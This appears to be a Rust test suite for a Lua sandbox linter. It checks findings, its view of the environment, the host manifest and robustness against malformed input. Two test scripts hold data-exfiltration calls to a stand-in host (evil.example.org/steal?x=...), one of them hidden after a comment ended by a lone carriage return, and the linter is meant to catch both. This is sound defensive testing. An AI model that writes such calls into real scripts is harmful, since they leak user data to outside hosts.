//! `Sandbox::lint`: the linter against the exact sandbox a script would run in.
//!
//! Three promises are held here: the linter's view of a sandbox is the sandbox (compared
//! with a real run's environment in every profile), scripts written the way models write
//! them get the findings they deserve at the right lines, and code that runs correctly
//! gets no error finding (the repository's examples, benchmarks, AO fixtures and a
//! corpus of real modules).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use moonjail::{Profile, Sandbox, Severity, ToolError};
use serde_json::{json, Value};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// `(rule, line)` of every finding of at least `severity`.
fn found(sandbox: &Sandbox, code: &str, severity: Severity) -> Vec<(&'static str, u32)> {
    sandbox
        .lint(code)
        .findings
        .iter()
        .filter(|f| f.severity <= severity)
        .map(|f| (f.rule, f.line))
        .collect()
}

fn errors(sandbox: &Sandbox, code: &str) -> Vec<(&'static str, u32)> {
    found(sandbox, code, Severity::Error)
}

fn with_tools(profile: Profile) -> Sandbox {
    Sandbox::builder()
        .profile(profile)
        .tool("weather.lookup", |_| Ok(json!({"forecast": "sunny"})))
        .tool("log", |_| Ok(Value::Null))
        .allow_http("api.example.com")
        .build()
        .expect("a valid sandbox")
}

/// A run's environment, read from inside: each global with its members. Profiles with
/// `_G` list it whole; `minimal` has no `_G`, so every name either side could know of is
/// probed by name.
fn runtime_environment(sandbox: &Sandbox, probe: &[String]) -> BTreeMap<String, Vec<String>> {
    let mut script = String::from(
        r#"
local names = {}
local function members(v)
  local t = {}
  if type(v) == "table" or type(v) == "userdata" then
    for k in pairs(v) do t[#t + 1] = k end
  end
  table.sort(t)
  return t
end
local function add(k, v)
  if k == "_G" then names[k] = {} else names[k] = members(v) end
end
"#,
    );
    for name in probe {
        script.push_str(&format!(
            "if {name} ~= nil then add({name:?}, {name}) end\n"
        ));
    }
    script.push_str("return names\n");
    let outcome = sandbox.run(&script, &Value::Null);
    let value = outcome.result.expect("the probe runs");
    let Value::Object(names) = value else {
        panic!("not an object: {value}")
    };
    names
        .into_iter()
        .map(|(name, members)| {
            // An empty Lua table crosses as `{}`.
            let members = match members {
                Value::Array(list) => list
                    .into_iter()
                    .map(|m| m.as_str().unwrap_or_default().to_string())
                    .collect(),
                _ => Vec::new(),
            };
            (name, members)
        })
        .collect()
}

#[test]
fn the_linters_view_is_the_sandbox_in_every_profile() {
    let stock = [
        "_G",
        "_VERSION",
        "assert",
        "collectgarbage",
        "coroutine",
        "debug",
        "dofile",
        "error",
        "getmetatable",
        "io",
        "ipairs",
        "load",
        "loadfile",
        "math",
        "next",
        "os",
        "package",
        "pairs",
        "pcall",
        "print",
        "rawequal",
        "rawget",
        "rawlen",
        "rawset",
        "require",
        "select",
        "setmetatable",
        "string",
        "table",
        "tonumber",
        "tostring",
        "type",
        "utf8",
        "warn",
        "xpcall",
        "json",
        "http",
        "weather",
        "log",
        "unpack",
        "loadstring",
        "setfenv",
        "jit",
        "bit32",
        "module",
    ];
    for profile in Profile::ALL {
        let sandbox = with_tools(profile);
        let view = sandbox.lint_environment();
        let mut probe: Vec<String> = stock.iter().map(|s| s.to_string()).collect();
        probe.extend(view.keys().cloned());
        probe.sort();
        probe.dedup();
        let runtime = runtime_environment(&sandbox, &probe);
        assert_eq!(view, runtime, "profile {profile}");
        if profile.spec().has_global("_G") {
            // And nothing outside the probe: pairs(_G) lists the whole environment.
            let out = sandbox.run(
                "local n = 0 for _ in pairs(_G) do n = n + 1 end return n",
                &Value::Null,
            );
            assert_eq!(out.result, Ok(json!(view.len())), "profile {profile}");
        }
    }
}

#[test]
fn scripts_as_models_write_them() {
    let sandbox = with_tools(Profile::Standard);
    let script = r#"local input = ...
local city = input.city
if city != nil then
  print(city)
end
local n = 0
n += 1
local f = io.open("data.txt")
local parts = string.spilt(city, ",")
local w = weather.lookpu{city = city}
local s = string.find(city, "[a-")
local r = http.get("https://evil.example.org/steal?x=" .. city)
return {f, parts, w, s, r}
"#;
    assert_eq!(
        errors(&sandbox, script),
        [
            ("syntax", 3),
            ("syntax", 7),
            ("removed-global", 8),
            ("unknown-member", 9),
            ("unknown-member", 10),
            ("bad-pattern", 11),
            ("http-host", 12),
        ]
    );
    let report = sandbox.lint(script);
    let hint = |line: u32| {
        report
            .findings
            .iter()
            .find(|f| f.line == line)
            .and_then(|f| f.suggestion.clone())
            .unwrap_or_default()
    };
    assert!(hint(3).contains("`~=`"), "{}", hint(3));
    assert!(hint(7).contains("n = n + ..."), "{}", hint(7));
    assert!(hint(9).contains("gmatch"), "{:#?}", report.findings);
    assert_eq!(hint(10), "did you mean `weather.lookup`?");
    let removed = report.findings.iter().find(|f| f.line == 8).unwrap();
    assert!(
        removed.message.contains("on purpose"),
        "{}",
        removed.message
    );
    assert_eq!((removed.column, removed.end_column), (11, 13));
    assert!(report.manifest.hosts.contains("evil.example.org:443"));
}

#[test]
fn each_rule_at_its_line() {
    let sandbox = with_tools(Profile::Standard);
    let cases: &[(&str, &[(&str, u32)])] = &[
        ("local x = 1\nreturn y.z", &[("undefined-global", 2)]),
        ("prnit('x')", &[("undefined-global", 1)]),
        ("weather.lookup = nil", &[("readonly-write", 1)]),
        ("return string.sub()", &[("arg-count", 1)]),
        ("table.insert({}, 1, 2, 3)", &[("arg-count", 1)]),
        ("return ('x'):gsub('(a)', '%2')", &[("bad-pattern", 1)]),
        ("return string.match('x', '%')", &[("bad-pattern", 1)]),
        (
            "return http.get('http://api.example.com:8080/')",
            &[("http-host", 1)],
        ),
        (
            "local function f()\n  return 1\n  print('x')\nend",
            // The `end` the parser then finds alone is its own error.
            &[("unreachable-code", 2), ("syntax", 4)],
        ),
        ("return string.dump(print)", &[("removed-global", 1)]),
        ("return os.execute('ls')", &[("removed-global", 1)]),
        ("return debug.traceback()", &[("removed-global", 1)]),
    ];
    for (code, expected) in cases {
        assert_eq!(&errors(&sandbox, code), expected, "{code}");
    }
    let warnings: &[(&str, &[(&str, u32)])] = &[
        ("local unused = 1", &[("unused-local", 1)]),
        (
            "local x = 1\nif x then\n  local x = 2\n  print(x)\nend",
            &[("shadowing", 3)],
        ),
        ("return #{a = 1}", &[("length-of-map", 1)]),
        (
            "local t = {}\nfor i = 0, #t do print(t[i]) end",
            &[("zero-based-loop", 2)],
        ),
        ("return load(...)", &[("dynamic-load", 1)]),
        (
            "return s:match('[')",
            &[("undefined-global", 1), ("bad-pattern", 1)],
        ),
        ("return null", &[("undefined-global", 1)]),
    ];
    for (code, expected) in warnings {
        assert_eq!(&found(&sandbox, code, Severity::Info), expected, "{code}");
    }
}

#[test]
fn the_sandbox_decides_what_exists() {
    let minimal = Sandbox::builder()
        .profile(Profile::Minimal)
        .build()
        .unwrap();
    assert_eq!(
        errors(&minimal, "return setmetatable({}, {})"),
        [("removed-global", 1)]
    );
    assert_eq!(
        errors(&minimal, "return require('x')"),
        [("removed-global", 1)]
    );
    let aos = Sandbox::builder().profile(Profile::Aos).build().unwrap();
    assert_eq!(errors(&aos, "return require('x'), io.open('f')"), []);
    assert_eq!(
        errors(&aos, "return io.lines('f')"),
        [("removed-global", 1)]
    );
    let standard = Sandbox::default();
    assert_eq!(
        errors(&standard, "return weather.lookup{}"),
        [("undefined-global", 1)]
    );
    assert_eq!(
        errors(&standard, "return http.get('https://a.b/')"),
        [("removed-global", 1)]
    );
    let strict = Sandbox::builder().require_run(true).build().unwrap();
    assert_eq!(errors(&strict, "return 1"), [("missing-run", 1)]);
    assert_eq!(errors(&strict, "function run(x) return x end"), []);
    let small = Sandbox::builder().source_limit(4).build().unwrap();
    assert_eq!(errors(&small, "return 1"), [("source-limit", 1)]);
}

#[test]
fn feature_detection_and_own_definitions_are_not_errors() {
    let sandbox = Sandbox::default();
    for code in [
        "local unpack = table.unpack or unpack\nreturn unpack({1})",
        "if setfenv then setfenv(1, {}) end",
        "if not jit then return end\njit.off()",
        "function helper() return 1 end\nreturn helper()",
        "local function f() return g() end\nfunction g() return 1 end\nreturn f()",
        "function string.trim(s) return (s:gsub('^%s+', '')) end\nreturn string.trim(' x')",
        "local _ENV = {print = print}\nprint(x.y)",
        "setmetatable(_G, {__index = function() return print end})\nreturn anything()",
        "local s = ('x'):rep(3):upper()\nreturn s",
        "local t <const> = 1 // 2\nlocal c <close> = nil\ngoto done\n::done::\nreturn t",
        "#!/usr/bin/env lua\nreturn 1",
        "\u{feff}return 1",
        "return string.find('a.b', '.', 1, true)",
        "return json.encode({json.null})",
    ] {
        assert_eq!(errors(&sandbox, code), [], "{code}");
    }
    // The shebang line keeps line numbers.
    let report = sandbox.lint("#!/usr/bin/env lua\n\nreturn nope.x");
    assert_eq!(report.findings[0].line, 3);
}

#[test]
fn the_manifest_says_what_the_script_reaches() {
    let sandbox = with_tools(Profile::Standard);
    let report = sandbox.lint(
        r#"local w = weather.lookup{city = "Lyon"}
log("x")
local body = http.get("https://api.example.com/v1?q=" .. w.city).body
local f = load(body)
return string.format("%s", json.decode(body)), f"#,
    );
    assert!(!report.has_errors(), "{:?}", report.findings);
    let m = &report.manifest;
    assert_eq!(
        m.tools.iter().collect::<Vec<_>>(),
        ["http.get", "log", "weather.lookup"]
    );
    assert!(m.library.contains("string.format") && m.library.contains("json.decode"));
    assert!(m.globals.contains("weather") && m.globals.contains("load"));
    assert_eq!(m.hosts.iter().collect::<Vec<_>>(), ["api.example.com:443"]);
    assert!(m.dynamic_load);
    let doc = serde_json::to_value(&report).unwrap();
    assert!(doc["findings"].is_array());
    assert_eq!(doc["manifest"]["dynamic_load"], true);
}

#[test]
fn hostile_sources_are_linted_without_harm() {
    let sandbox = Sandbox::builder().no_source_limit().build().unwrap();
    // Deeper than any parser recursion can take: refused as too complex.
    let deep = format!("return {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    assert_eq!(found(&sandbox, &deep, Severity::Info), [("too-complex", 1)]);
    // Deep but within the bound: parsed, on a grown stack.
    let nested = format!("return {}1{}", "{".repeat(950), "}".repeat(950));
    assert_eq!(errors(&sandbox, &nested), []);
    let chain = format!("return 1{}", " .. 1".repeat(950));
    assert_eq!(errors(&sandbox, &chain), []);
    for junk in [
        &b"\xff\xfe\x00 return"[..],
        b"\x1bLua",
        b"[[",
        b"'",
        b"--[==[",
        b"x = = =",
    ] {
        let _ = sandbox.lint(junk);
    }
    assert_eq!(errors(&sandbox, "\x1bLua"), [("binary-chunk", 1)]);
}

/// A Lua file of the repository or the corpus, with the sandbox it runs in.
fn no_errors(sandbox: &Sandbox, path: &Path) {
    let code = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let report = sandbox.lint(&code);
    let errors: Vec<_> = report.errors().collect();
    assert!(errors.is_empty(), "{}: {errors:#?}", path.display());
}

fn lua_files(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "lua") {
                files.push(path);
            }
        }
    }
    files.sort();
    files
}

#[test]
fn code_that_runs_lints_without_errors() {
    let root = repo();
    let standard = Sandbox::default();
    let minimal = Sandbox::builder()
        .profile(Profile::Minimal)
        .build()
        .unwrap();
    let aos = Sandbox::builder().profile(Profile::Aos).build().unwrap();
    let http = Sandbox::builder()
        .allow_http("127.0.0.1:8765")
        .build()
        .unwrap();
    no_errors(&minimal, &root.join("examples/minimal.lua"));
    no_errors(&standard, &root.join("examples/hello.lua"));
    no_errors(&standard, &root.join("examples/agent.lua"));
    no_errors(&http, &root.join("examples/agent_http.lua"));
    let bench = lua_files(&root.join("bench/lua"));
    assert!(bench.len() >= 9, "{bench:?}");
    for file in bench {
        no_errors(&standard, &file);
    }
    // The heap helper is for stock lua5.4, and uses what the sandbox removes.
    let helper = standard.lint(std::fs::read(root.join("bench/peak_heap.lua")).unwrap());
    let removed: Vec<_> = helper.errors().map(|f| (f.rule, f.line)).collect();
    assert_eq!(
        removed,
        [
            ("undefined-global", 5),
            ("removed-global", 6),
            ("removed-global", 8),
            ("removed-global", 18)
        ]
    );
    let ao = lua_files(&root.join("crates/moonjail/tests/fixtures/ao"));
    assert_eq!(ao.len(), 3);
    for file in ao {
        no_errors(&aos, &file);
    }
}

#[test]
fn real_modules_lint_without_errors() {
    let corpus = lua_files(&repo().join("crates/moonjail/tests/lint_corpus"));
    assert!(corpus.len() >= 3, "{corpus:?}");
    let standard = Sandbox::default();
    for file in &corpus {
        no_errors(&standard, file);
        // And they do run there: each returns its module table.
        let code = std::fs::read_to_string(file).unwrap();
        let wrapped = format!("return type((function(...)\n{code}\nend)())");
        let out = standard.run(&wrapped, &Value::Null);
        assert_eq!(out.result, Ok(json!("table")), "{}", file.display());
    }
}

#[test]
fn tool_names_in_findings_come_from_the_registry() {
    let sandbox = Sandbox::builder()
        .tool("a.b.c", |_| Err(ToolError::new("no")))
        .build()
        .unwrap();
    assert_eq!(errors(&sandbox, "return a.b.c(1)"), []);
    assert_eq!(errors(&sandbox, "return a.b.d(1)"), [("unknown-member", 1)]);
    assert_eq!(errors(&sandbox, "return a.x.c(1)"), [("unknown-member", 1)]);
    assert_eq!(errors(&sandbox, "a.b = 1"), [("readonly-write", 1)]);
}

#[test]
fn literal_tool_arguments_meet_the_tools_schema() {
    let sandbox = Sandbox::builder()
        .tool("weather.lookup", |_| Ok(json!({"forecast": "sunny"})))
        .describe_tool(
            "weather.lookup",
            moonjail::ToolSpec::new().parameters(json!({
                "type": "object",
                "properties": {"city": {"type": "string"}, "days": {"type": "integer"}},
                "required": ["city"],
                "additionalProperties": false
            })),
        )
        .build()
        .unwrap();
    assert_eq!(
        errors(&sandbox, "return weather.lookup{city = 'Lyon', days = 3}"),
        []
    );
    assert_eq!(
        errors(
            &sandbox,
            "local x = 1\nreturn weather.lookup{town = 'Lyon'}"
        ),
        [("tool-schema", 2)]
    );
    assert_eq!(
        errors(
            &sandbox,
            "return weather.lookup{city = 'Lyon', days = 'three'}"
        ),
        [("tool-schema", 1)]
    );
    assert_eq!(
        errors(&sandbox, "return weather.lookup('Lyon')"),
        [("tool-schema", 1)]
    );
    // What the script computes is checked when it runs, not here.
    assert_eq!(
        errors(&sandbox, "local c = ... return weather.lookup{city = c}"),
        []
    );
    let report = sandbox.lint("return weather.lookup{town = 'Lyon'}");
    let message = &report.findings[0].message;
    assert!(message.contains("weather.lookup"), "{message}");
    // The run refuses the same arguments, with the same schema.
    let out = sandbox.run("return weather.lookup{town = 'Lyon'}", &Value::Null);
    assert!(out.error().is_some(), "{:?}", out.result);
}

/// A backtick where a token would be (a Markdown fence a model pasted in, a template
/// string from JavaScript) made full_moon's lexer reach `unreachable!()` and panic the
/// host (found by schemathesis through `POST /v1/lint`). It is a syntax error at its
/// place, and the rest of the script is still read.
#[test]
fn a_backtick_is_a_syntax_error_not_a_panic() {
    let sb = Sandbox::builder().build().unwrap();
    assert_eq!(errors(&sb, "`\u{ea}"), [("syntax", 1)]);
    let fenced = "```lua\nlocal x = 1\nprint(x)\nstring.spilt('a', ',')\n```";
    assert_eq!(
        errors(&sb, fenced),
        [("syntax", 1), ("unknown-member", 4), ("syntax", 5)]
    );
    let template = "local name = 'x'\nprint(`hello ${name}`)";
    let found = errors(&sb, template);
    assert!(found.contains(&("syntax", 2)), "{found:?}");
    // Inside strings and comments a backtick is text.
    assert_eq!(errors(&sb, "-- `code`\nreturn '`x`'"), []);
    // Where an unfinished string ends is where the lexers may disagree (found by the
    // lint_source fuzz target): no panic either.
    let report = sb.lint(b"T.T`\n\n\r` \n'\r`\n\r\xbd".as_slice());
    assert!(report.has_errors());
}

/// Valid Lua 5.4 that full_moon refuses (a `break` before the block's last statement,
/// empty statements) lints clean: it runs, so a syntax error would be a false alarm. It
/// was one while full_moon read every script; the linter's own parser reads valid Lua.
#[test]
fn valid_lua_full_moon_refuses_is_not_a_syntax_error() {
    let sb = Sandbox::builder().build().unwrap();
    for code in [
        "local n = 0\nwhile true do n = n + 1; break; n = 2 end\nreturn n",
        ";; local x = 1;; return x",
        "do ; end",
        "for i = 1, 3 do if i == 2 then break end; print(i) end",
    ] {
        assert_eq!(errors(&sb, code), [], "{code}");
        let out = sb.run(code, &Value::Null);
        assert!(out.error().is_none(), "{code}: {:?}", out.result);
    }
    // Warnings still come from the walk over the same tree.
    assert_eq!(
        found(
            &sb,
            "while true do break; local unused = 1 end",
            Severity::Warning
        ),
        [("unused-local", 1)]
    );
}

#[test]
fn what_full_moon_reads_and_lua_refuses_is_a_syntax_error_where_lua_says() {
    // full_moon reads these without an error; this linter's parser refuses them, and
    // Lua's own compiler says why: the finding is Lua's message, at the token it names.
    let sb = Sandbox::builder().build().unwrap();
    let cases: &[(&str, u32, u32, &str)] = &[
        (
            "local a = 1\nreturn return",
            2,
            8,
            "unexpected symbol near 'return'",
        ),
        (
            "local x = 0x.p1\nreturn x",
            1,
            11,
            "malformed number near '0x.p1'",
        ),
    ];
    for &(code, line, column, message) in cases {
        let report = sb.lint(code);
        let found: Vec<_> = report
            .errors()
            .map(|f| (f.rule, f.line, f.column, f.message.as_str()))
            .collect();
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        assert_eq!(
            (found[0].0, found[0].1, found[0].2),
            ("syntax", line, column),
            "{code}"
        );
        assert!(found[0].3.contains(message), "{code}: {}", found[0].3);
        let out = sb.run(code, &Value::Null);
        let error = out.error().expect("Lua refuses it too");
        assert_eq!(error.kind.as_str(), "syntax", "{code}: {error:?}");
    }
    // A token named like one of Lua's goto messages does not hide the verdict, and
    // Lua's nesting limit, a message without a line, is still a finding.
    let spoof = format!("x = f({})\nreturn return", vec!["label"; 300].join(","));
    let deep = format!("x = {}1{}\nreturn return", "(".repeat(205), ")".repeat(205));
    for (code, message) in [(spoof, "too many registers"), (deep, "C stack overflow")] {
        let report = sb.lint(&code);
        let syntax: Vec<_> = report.errors().filter(|f| f.rule == "syntax").collect();
        assert_eq!(syntax.len(), 1, "{syntax:?}");
        assert!(syntax[0].message.contains(message), "{}", syntax[0].message);
    }
}

/// What Lua's compiler refuses beyond the grammar, and neither parser's grammar sees: a
/// `break` outside a loop, `...` outside a vararg function, an assignment to a
/// `<const>` or `<close>` local, an invalid escape. Each is a syntax finding at its
/// line, and each is a case the run refuses too (so none is a false alarm).
#[test]
fn what_lua_refuses_beyond_the_grammar_is_a_syntax_error() {
    let sb = Sandbox::builder().build().unwrap();
    let cases: &[(&str, u32, &str)] = &[
        ("print(1)\nbreak\nprint(2)", 2, "`break` outside a loop"),
        (
            "for i = 1, 2 do\n  local f = function() break end\nend",
            2,
            "`break` outside a loop",
        ),
        (
            "local function f(a)\n  return select('#', ...)\nend\nreturn f(1)",
            2,
            "outside a vararg function",
        ),
        (
            "local limit <const> = 10\nlimit = 20\nreturn limit",
            2,
            "const variable `limit`",
        ),
        (
            "local limit <const> = 10\nfunction limit() end",
            2,
            "const variable `limit`",
        ),
        (
            "local s = 'a'\nreturn s .. 'C:\\Users\\me'",
            2,
            "invalid escape sequence `\\U`",
        ),
    ];
    for &(code, line, message) in cases {
        let report = sb.lint(code);
        let found: Vec<_> = report
            .errors()
            .map(|f| (f.rule, f.line, f.message.as_str()))
            .collect();
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        assert_eq!((found[0].0, found[0].1), ("syntax", line), "{code}");
        assert!(found[0].2.contains(message), "{code}: {}", found[0].2);
        let out = sb.run(code, &Value::Null);
        let error = out.error().expect("Lua refuses it too");
        assert_eq!(error.kind.as_str(), "syntax", "{code}: {error:?}");
    }
    // Not refused: a shadowing local may change, a loop's `break` inside a nested block,
    // `...` of the main chunk, a `<const>` local's table fields.
    for code in [
        "local x <const> = 1\ndo local x = 2; x = 3 end",
        "while true do if true then do break end end end",
        "return select('#', ...)",
        "local t <const> = {}\nt.x = 1\nreturn t",
    ] {
        assert_eq!(errors(&sb, code), [], "{code}");
    }
}

/// Lua ends a line, and a comment, at a lone `\r` too. The linter's lexers and full_moon
/// did not: code after `-- comment\r` was invisible to it (a call left out of the
/// findings and of the manifest a host approves). And a string unfinished at a `\r`
/// hid from the nesting bound what full_moon then recursed through: the host's stack
/// overflowed (found in review).
#[test]
fn a_lone_carriage_return_ends_a_line_as_in_lua() {
    let sb = Sandbox::builder()
        .allow_http("api.example.com")
        .build()
        .unwrap();
    let code = "local x = 1 -- a comment\rhttp.get('https://evil.example.org/')\rreturn x";
    let report = sb.lint(code);
    assert!(
        report.manifest.hosts.contains("evil.example.org:443"),
        "{:?}",
        report.manifest
    );
    assert_eq!(errors(&sb, code), [("http-host", 2)]);
    // Lua reads it the same way: the call is made (and refused by the allowlist).
    let out = sb.run(code, &Value::Null);
    assert!(
        format!("{:?}", out.result).contains("evil.example.org"),
        "{:?}",
        out.result
    );
    // `\r\n` and `\n\r` are one line break each, as in Lua.
    assert_eq!(
        errors(&sb, "x = 1\r\n\n\ry.z = 2"),
        [("undefined-global", 3)]
    );
    let deep = format!("x = \"\r{}1{}\"", "(".repeat(19000), ")".repeat(19000));
    // The string ends (unfinished) at the `\r`, as in Lua: the 19,000 `(` after it are
    // code, counted by the nesting bound, and the chunk is not parsed.
    let rules: Vec<&str> = sb
        .lint(deep.as_str())
        .findings
        .iter()
        .map(|f| f.rule)
        .collect();
    assert_eq!(rules, ["too-complex"]);
}

/// Attributes Lua refuses, whichever parser reads the script: an unknown one (only
/// full_moon reads it; it is not taken for `<const>`), and two `<close>` variables in
/// one `local`.
#[test]
fn local_attributes_lua_refuses() {
    let sb = Sandbox::builder().build().unwrap();
    for (code, message) in [
        (
            "local x <foo> = 1\nx = 2\nreturn x",
            "unknown attribute `foo`",
        ),
        (
            "local a <close>, b <close> = nil, nil",
            "multiple to-be-closed variables",
        ),
    ] {
        let report = sb.lint(code);
        let found: Vec<_> = report.errors().map(|f| f.message.as_str()).collect();
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        assert!(found[0].contains(message), "{code}: {found:?}");
        assert!(sb.run(code, &Value::Null).error().is_some(), "{code}");
    }
    // A const-assignment error is a syntax error: `missing-run` is not added to it.
    let strict = Sandbox::builder().require_run(true).build().unwrap();
    assert_eq!(
        errors(&strict, "local n <const> = 1\nn = 2"),
        [("syntax", 2)]
    );
}

/// full_moon's lexer skips only one line break after a `\z` in a string (Lua skips all
/// the whitespace): to full_moon, what follows a second one is code, which the linter's
/// own nesting bound (Lua's view: a string) did not count. A script with a syntax error
/// and 19,000 `(` in such a string would overflow the host's stack in full_moon's
/// recursion. The error path now bounds full_moon's own view of the nesting too (found
/// while chasing a crash of the lint_parsers fuzz target).
#[test]
fn full_moons_view_of_a_string_cannot_overflow_the_stack() {
    let sb = Sandbox::builder().no_source_limit().build().unwrap();
    let parens = format!("{}1{}", "(".repeat(19_000), ")".repeat(19_000));
    let code = format!("x = = 1\ns = 'a\\z\n\n{parens}'\n");
    let report = sb.lint(code.as_str());
    assert!(
        report.findings.iter().any(|f| f.rule == "too-complex"),
        "{:?}",
        report.findings
    );
    // Valid, the same string is read as Lua reads it, by the linter's own parser.
    let valid = format!("s = 'a\\z\n\n{parens}'\nreturn s");
    assert_eq!(errors(&sb, &valid), []);
    assert!(sb.run(&valid, &Value::Null).error().is_none());
}

/// `goto` without a visible label and a label defined twice where both are visible are
/// compile errors in Lua; the idioms around them are not.
#[test]
fn goto_and_labels_as_lua_checks_them() {
    let sb = Sandbox::builder().build().unwrap();
    for (code, line, message) in [
        (
            "for i = 1, 3 do\n  if i == 2 then goto continue end\n  print(i)\nend",
            2,
            "no visible label `continue`",
        ),
        (
            "::top::\nlocal f = function() goto top end\nreturn f",
            2,
            "no visible label `top`",
        ),
        (
            "::a::\ndo\n  ::a::\nend",
            3,
            "label `a` already defined on line 1",
        ),
        ("do ::b:: ::b:: end", 1, "label `b` already defined"),
        (
            "goto skip\nlocal b = 1\n::skip::\nprint(b)",
            1,
            "jumps into the scope of local `b`",
        ),
        (
            "local a = 1\ndo\n  if a then goto later end\nend\nlocal b = 2\n::later::\nreturn b",
            3,
            "jumps into the scope of local `b`",
        ),
    ] {
        let report = sb.lint(code);
        let found: Vec<_> = report
            .errors()
            .map(|f| (f.line, f.message.as_str()))
            .collect();
        assert_eq!(found.len(), 1, "{code}: {found:?}");
        assert_eq!(found[0].0, line, "{code}: {found:?}");
        assert!(found[0].1.contains(message), "{code}: {found:?}");
        assert!(sb.run(code, &Value::Null).error().is_some(), "{code}");
    }
    for code in [
        "for i = 1, 3 do\n  if i == 2 then goto continue end\n  print(i)\n  ::continue::\nend",
        "local n = 0\n::again::\nn = n + 1\nif n < 3 then goto again end\nreturn n",
        "do goto out end\n::out::",
        "do ::a:: end\n::a::",
        "local f = function() ::top:: goto top end",
        "do goto l\nlocal b = 1\nprint(b)\n::l:: end",
        "for i = 1, 3 do\n  if i == 2 then goto continue end\n  local y = i\n  print(y)\n  ::continue::\nend",
        "local a = 1\n::top::\nlocal b = a\nif b < 1 then goto top end",
    ] {
        assert_eq!(errors(&sb, code), [], "{code}");
        let compiled = sb.run(format!("if false then\n{code}\nend"), &Value::Null);
        assert!(compiled.error().is_none(), "{code}: {:?}", compiled.result);
    }
}

#[test]
fn nested_chains_in_a_broken_script_do_not_hang_the_linter() {
    // `a[a[a[...]]] = 1` with a syntax error elsewhere: full_moon's tree is converted, and
    // placing its nested chains by full_moon's own ranges cost 2^depth (depth 14 took over
    // a minute; found by the lint_source fuzz target). A hang check, not a timing: 60
    // levels would take centuries that way.
    let depth = 60;
    let code = format!(
        "a{}{} = 1\nf(b{}{})\nx = 1 != 2\n",
        "[a".repeat(depth),
        "]".repeat(depth),
        ".c(d".repeat(depth),
        ")".repeat(depth),
    );
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let sb = Sandbox::builder().build().unwrap();
        let _ = tx.send(sb.lint(&code));
    });
    let report = rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("the linter hung on nested chains");
    let syntax: Vec<_> = report.errors().filter(|f| f.rule == "syntax").collect();
    assert_eq!(syntax.len(), 1, "{syntax:?}");
    assert_eq!(syntax[0].line, 3);
}
